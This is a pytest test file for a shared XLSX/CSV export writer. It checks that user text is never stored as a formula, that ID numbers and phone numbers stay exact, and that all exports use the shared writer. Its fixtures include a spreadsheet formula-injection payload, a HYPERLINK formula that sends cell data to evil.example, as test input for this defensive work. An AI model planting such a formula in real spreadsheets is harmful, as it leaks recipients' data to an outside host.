"""The shared spreadsheet writer: user text is never a formula, the file is never damaged,
identifiers stay exact (issue 15, item 6)."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from winddown.core.spreadsheets import (
    CSV_FORMULA_START,
    MAX_CELL_CHARS,
    Cell,
    XlsxWorkbook,
    clean_cell_text,
    csv_bytes,
    csv_cell,
    ooxml_text,
)
from winddown.core.tests.xlsx_checks import (
    CONTROL_TEXT,
    CONTROL_TEXT_WRITTEN,
    FORMULA_TEXTS,
    HOSTILE_TEXTS,
    assert_safe_xlsx,
    written,
)

ID_NUMBER = "110101199003070011"
PHONE = "13800138000"


def book_of(rows: list[list]) -> bytes:
    book = XlsxWorkbook()
    sheet = book.sheet("名册")
    for row in rows:
        sheet.append(row)
    return book.to_bytes()


def test_hostile_text_is_written_as_text():
    data = book_of([[value, f"{value}尾"] for value in HOSTILE_TEXTS])
    rows = assert_safe_xlsx(data)["名册"]
    assert [row[0] for row in rows] == [written(v) for v in HOSTILE_TEXTS]
    assert rows[0][1] == '=HYPERLINK("http://evil.example/"&C2,"点击")尾'


def test_text_cells_are_formatted_as_text_so_editing_does_not_evaluate_them():
    ws = load_workbook(io.BytesIO(book_of([["=1+2", 5]])))["名册"]
    assert ws["A1"].number_format == "@" and ws["A1"].data_type == "s"
    assert ws["B1"].number_format == "General" and ws["B1"].value == 5


def test_identifiers_stay_exact_and_numbers_stay_numbers():
    data = book_of(
        [
            [ID_NUMBER, PHONE, "11010119900307001X", 110101199003070011, 12],
            [Cell(Decimal("1234.50"), number_format="#,##0.00"), datetime(2026, 12, 1, 9, 30)],
        ]
    )
    rows = assert_safe_xlsx(data)["名册"]
    assert rows[0] == [ID_NUMBER, PHONE, "11010119900307001X", ID_NUMBER, 12]
    assert rows[1][0] == Decimal("1234.5") or rows[1][0] == 1234.5
    assert rows[1][1] == datetime(2026, 12, 1, 9, 30)
    ws = load_workbook(io.BytesIO(data))["名册"]
    assert ws["A2"].number_format == "#,##0.00" and ws["A2"].data_type == "n"


def test_dates_booleans_and_empty_cells():
    data = book_of([[date(2026, 12, 4), datetime(2026, 12, 4, 8, 0, 1), True, None, "尾"]])
    rows = assert_safe_xlsx(data)["名册"]
    assert rows[0] == [datetime(2026, 12, 4), datetime(2026, 12, 4, 8, 0, 1), True, None, "尾"]
    ws = load_workbook(io.BytesIO(data))["名册"]
    assert ws["A1"].number_format == "yyyy-mm-dd"
    assert ws["B1"].number_format == "yyyy-mm-dd hh:mm:ss"


def test_values_a_spreadsheet_cannot_hold_exactly_are_refused():
    for value in (Decimal("NaN"), Decimal("Infinity"), datetime(2026, 1, 1, tzinfo=UTC), b"x"):
        with pytest.raises((TypeError, ValueError)):
            book_of([[value]])


def test_floats_are_refused():
    with pytest.raises(TypeError):
        book_of([[0.1]])
    with pytest.raises(TypeError):
        csv_cell(0.1)


def test_excel_escapes_in_text_read_back_as_typed():
    """Excel (and calamine) read `_x0041_` as "A": the underscore is escaped."""
    values = ["_x0041_", "_x0041_x0042_", "名_x000D_字", "_x12_", "_X0041_"]
    assert ooxml_text("_x0041_x0042_") == "_x005F_x0041_x005F_x0042_"
    rows = assert_safe_xlsx(book_of([values]))["名册"]
    assert rows[0] == values


def test_overlong_text_is_cut_to_what_a_cell_holds():
    rows = assert_safe_xlsx(book_of([["长" * (MAX_CELL_CHARS + 10)]]))["名册"]
    assert len(rows[0][0]) == MAX_CELL_CHARS and rows[0][0].endswith("…")


def test_clean_cell_text_replaces_what_xml_cannot_hold():
    assert clean_cell_text(CONTROL_TEXT) == CONTROL_TEXT_WRITTEN
    assert clean_cell_text("a\ud800b\ufffe\uffffc\x00") == "a\ufffdb\ufffd\ufffdc\ufffd"
    assert clean_cell_text("行1\n行2\t制表\r\n行3\r") == "行1\n行2\t制表\n行3\n"
    assert clean_cell_text("😀王") == "😀王"


PIECES = st.one_of(
    st.text(max_size=12),
    st.sampled_from(HOSTILE_TEXTS),
    st.from_regex(r"_[xX][0-9A-Fa-f]{4}_", fullmatch=True),
    st.sampled_from(["=", "+", "-", "@", "#", "\r", "\r\n", "\ufffe", "\x00", "_x", "_"]),
)
CELL_TEXTS = st.lists(PIECES, max_size=5).map("".join)


@settings(max_examples=80, deadline=None)
@given(st.lists(CELL_TEXTS, min_size=1, max_size=6))
def test_any_text_comes_back_as_that_text_and_never_as_a_formula(values):
    rows = assert_safe_xlsx(book_of([values]))["名册"]
    expected = [clean_cell_text(v) or None for v in values]
    # Trailing empty cells are not rows' cells for openpyxl.
    assert (rows[0] + [None] * len(values))[: len(values)] == expected


# --- CSV ------------------------------------------------------------------------------------


def test_csv_formula_starts_get_a_quote():
    for value in (*FORMULA_TEXTS[:5], "\t1", "\r1", "＝1+2", "－1"):
        assert csv_cell(value) == "'" + value, value
    assert csv_cell("#N/A") == "#N/A"  # not a formula start
    assert csv_cell("王小明") == "王小明"
    assert csv_cell(ID_NUMBER) == ID_NUMBER
    assert csv_cell(-5) == "-5" and csv_cell(Decimal("-1.50")) == "-1.50"  # numbers stay numbers
    assert csv_cell(None) == "" and csv_cell("_x0041_") == "_x0041_"


def test_csv_bytes_has_a_bom_and_reads_back():
    data = csv_bytes([["姓名", "金额"], ['=HYPERLINK("http://evil.example/"&C2,"点击")', 10]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["姓名", "金额"], ['\'=HYPERLINK("http://evil.example/"&C2,"点击")', "10"]]


# --- Every export uses this writer ----------------------------------------------------------

WRITERS = re.compile(r"\bWorkbook\(|WriteOnlyCell|csv\.writer|csv\.DictWriter|xlsxwriter")
#: Files that may write spreadsheets another way, and why.
ALLOWED = {
    "core/spreadsheets.py": "the shared writer",
    "demo/generators.py": "synthetic register files to import (input, not an export)",
    "ledger/samples.py": "synthetic ledger files for the benches (input, not an export)",
    "ledger/services.py": "a register generated from the ledger for the claims import (input)",
}


def test_every_spreadsheet_export_goes_through_the_shared_writer():
    root = Path(__file__).resolve().parents[2]  # winddown/
    offenders = []
    for path in sorted(root.rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if "/tests/" in f"/{relative}" or relative in ALLOWED or "/migrations/" in relative:
            continue
        if WRITERS.search(path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == [], (
        f"write spreadsheets with winddown.core.spreadsheets, not directly: {offenders}"
    )


@settings(max_examples=80, deadline=None)
@given(st.lists(CELL_TEXTS, min_size=1, max_size=6))
def test_no_csv_field_starts_like_a_formula_and_each_reads_back(values):
    data = csv_bytes([values])
    [row] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(row) == len(values)
    for field, value in zip(row, values, strict=True):
        assert not field.startswith(CSV_FORMULA_START)
        assert field in (value, "'" + value)
